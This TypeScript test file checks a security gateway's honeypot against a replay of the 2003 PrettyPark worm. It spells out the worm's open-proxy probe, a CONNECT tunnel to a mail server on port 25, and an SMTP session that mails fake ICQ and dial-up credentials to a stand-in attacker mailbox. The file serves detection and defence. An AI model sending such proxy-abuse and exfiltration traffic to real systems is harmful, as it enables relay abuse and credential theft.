import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { SecurityEvent } from '../../src/events/securityEvent.js';
import { gatewayForSuite, rawRequest, storedEvents, tempDir, waitFor } from '../gateway/helpers.js';
import { honeypotOn, RawClient } from './helpers.js';

const PROBE = 'GET http://irc.stealth.net:5558/ HTTP/1.1\r\nHost: irc.stealth.net:5558\r\n\r\n';
const CONNECT = 'CONNECT maila.microsoft.com:25 / HTTP/1.0\r\n\r\n';
/** Where the worm's stolen data went: what the 2003 administrator wished to learn. */
const MAILBOX = 'collector@worm-author.example';

/** The worm's CONNECT and the mail it came to send; returns the client's view. */
async function wormMail(port: number, from: string): Promise<string> {
  const c = await RawClient.open(port, from);
  c.send(CONNECT);
  await c.read(/^HTTP\/1\.0 200 Connection established\r\n\r\n220 maila\.microsoft\.com ESMTP Postfix\r\n$/);
  await c.ask('HELO victim-pc', /^250 /);
  await c.ask('MAIL FROM:<victim@dialup.example.it>', /^250 /);
  await c.ask(`RCPT TO:<${MAILBOX}>`, /^250 /);
  await c.ask('DATA', /^354 /);
  c.send('Subject: PrettyPark\r\n\r\nICQ UIN: 12345678\r\nDUN: provider / user / secret\r\n');
  const queued = await c.ask('.', /^250 2\.0\.0 Ok: queued as /);
  await c.ask('QUIT', /^221 /);
  c.close();
  return queued;
}

async function eventsOf(suite: ReturnType<typeof gatewayForSuite>, ip: string, ready: (e: SecurityEvent[]) => boolean) {
  return waitFor(`events of ${ip}`, async () => {
    const events = await storedEvents(suite.service, suite.db, ip);
    return ready(events) ? events : undefined;
  });
}

/** The 2003 incident, replayed with play-along on: the worm learns nothing is wrong, the site learns its mailbox. */
describe('the 2003 PrettyPark sequence with play-along', () => {
  const tmp = tempDir();
  const suite = gatewayForSuite(honeypotOn(tmp.dir));
  const WORM = '127.0.0.31';

  it('answers the IRC proxy test as an open proxy, takes the mail, then drops the source as before', async () => {
    const probe = await rawRequest(suite.service.port, WORM, PROBE);
    assert.match(probe.response, /^HTTP\/1\.0 200 OK\r\n/);
    assert.match(probe.response, /\r\n\r\n:irc\.stealth\.net NOTICE AUTH :\*\*\* Looking up your hostname\r\n/);
    assert.equal(probe.ending, 'fin');

    assert.match(await wormMail(suite.service.port, WORM), /^250 2\.0\.0 Ok: queued as [0-9A-F]{12}\r\n$/);

    // Banned by the CONNECT, as in 2003: the worm's next tries are dropped at accept.
    for (let i = 0; i < 3; i++) {
      const again = await rawRequest(suite.service.port, WORM, CONNECT);
      assert.equal(again.response, '', 'a banned source hears nothing');
    }
    assert.equal(suite.upstream.connections, 0, 'the site never saw the worm');

    const events = await eventsOf(suite, WORM, (e) =>
      e.some((x) => x.bansho.honeypot?.service === 'smtp' && x.bansho.honeypot.end),
    );
    const banned = events.find((e) => e.event.action === 'banned');
    assert.equal(banned?.threat?.software?.id, 'prettypark');
    assert.equal(banned?.bansho.evidence, 'CONNECT maila.microsoft.com:25 / HTTP/1.0');
    assert.equal(banned?.http?.response?.status_code, 200, 'the event says what the worm was answered');
    const blocked = events.find((e) => e.event.action === 'blocked');
    assert.equal(blocked?.bansho.evidence, 'GET http://irc.stealth.net:5558/ HTTP/1.1');

    const probeSession = events.find((e) => e.bansho.honeypot?.service === 'irc-probe');
    assert.equal(probeSession?.threat?.software?.id, 'prettypark');
    assert.equal(probeSession?.destination?.domain, 'irc.stealth.net');
    const session = events.find((e) => e.bansho.honeypot?.service === 'smtp' && e.bansho.honeypot.end);
    assert.equal(session?.threat?.software?.id, 'prettypark', 'the recorded session names the threat');
    assert.equal(session?.threat?.software?.name, 'PrettyPark');
    assert.equal(session?.bansho.honeypot?.end, 'quit');
    assert.equal(session?.bansho.honeypot?.messages, 1);
    const mail = events.find((e) => e.email !== undefined);
    assert.deepEqual(mail?.email?.to?.address, [MAILBOX], "the worm author's mailbox");
    assert.equal(mail?.bansho.honeypot?.session, session?.bansho.honeypot?.session);
  });
});

describe('PrettyPark coming back, with honeypot.banned', () => {
  const tmp = tempDir();
  const suite = gatewayForSuite(honeypotOn(tmp.dir, { banned: true, budget: { sessions: 4 } }));
  const WORM = '127.0.0.32';

  it('lets the banned worm back into the honeypot until its budget is spent, then drops it', async () => {
    await rawRequest(suite.service.port, WORM, PROBE);
    await wormMail(suite.service.port, WORM);
    // Sessions 3 and 4 of the window: the banned worm's repeats still meet the mail server.
    for (let i = 0; i < 2; i++) assert.match(await wormMail(suite.service.port, WORM), /^250 2\.0\.0 Ok: queued as /);
    const over = await rawRequest(suite.service.port, WORM, CONNECT);
    assert.equal(over.response, '', 'past its budget the source is dropped as before');
    const events = await eventsOf(
      suite,
      WORM,
      (e) => e.filter((x) => x.email).length === 3 && e.some((x) => x.event.action === 'dropped'),
    );
    assert.equal(events.filter((e) => e.event.action === 'banned').length, 1, 'one ban, made by the first CONNECT');
    assert.equal(suite.upstream.connections, 0);
  });
});
